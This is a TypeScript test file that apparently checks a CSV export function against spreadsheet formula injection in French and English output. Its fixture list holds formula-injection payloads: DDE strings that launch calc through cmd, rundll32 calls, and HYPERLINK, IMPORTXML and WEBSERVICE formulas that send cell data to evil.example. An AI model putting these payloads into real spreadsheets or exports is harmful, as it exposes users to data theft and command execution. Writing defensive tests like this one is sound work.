import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { csvOf } from '$lib/csv/csv.ts';
import { payloads } from '../support/xss-payloads.ts';

/** What spreadsheets carry out, or have carried out. */
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  ' =',
  '\n=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '\u200b=',
  '\u00a0=',
  '|',
  '%',
];
const bodies = [
  '1+1',
  `cmd|' /C calc'!A0`,
  'HYPERLINK("https://evil.example?"&A1,"open")',
  'SUM(1+1)*cmd|" /C calc"!A0',
  'IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  `WEBSERVICE("https://evil.example")`,
  '2;3";=1+1',
  'A1\r\n=1+1',
  '"&=1+1',
  `'=1+1`,
  'rundll32|URL.dll,OpenURL!A',
];
const formulas = starts.flatMap((start) => bodies.map((body) => start + body));

test.each(['fr', 'en'] as const)(
  'C404 T38 in %s no text becomes a formula, and another reader finds every cell as it was',
  (locale) => {
    const texts = [...formulas, ...payloads];
    expect(formulas.length).toBeGreaterThanOrEqual(200);
    expect(texts.length).toBeGreaterThan(400);
    const rows = texts.map((text, index) => [text, index, `« ${text} »`, null]);
    const written = csvOf([['Texte', 'Nombre', 'Autre', 'Rien'], ...rows], locale);
    const delimiter = locale === 'fr' ? ';' : ',';
    const read: string[][] = parse(written, { bom: true, delimiter, record_delimiter: '\r\n' });
    expect(read).toHaveLength(texts.length + 1);
    for (const [index, [first = '', number, other, nothing]] of read.slice(1).entries()) {
      const text = texts[index] ?? '';
      expect(first).toBe(first.startsWith(`'`) && !text.startsWith(`'`) ? `'${text}` : text);
      expect(first).not.toMatch(/^[\s\u200b\ufeff]*[=+\-@＝＋－＠|%]/u);
      expect([number, other, nothing]).toEqual([String(index), `« ${text} »`, '']);
    }
  },
);

test('C404 numbers are those of the country, negative ones too, and are never taken for formulas', () => {
  expect(csvOf([[-3, 0.5, 1 / 3, 'a;b', 'c,d']], 'fr')).toBe('\ufeff-3;0,5;0,3333;"a;b";"c,d"\r\n');
  expect(csvOf([[-3, 0.5]], 'en')).toBe('\ufeff-3,0.5\r\n');
});
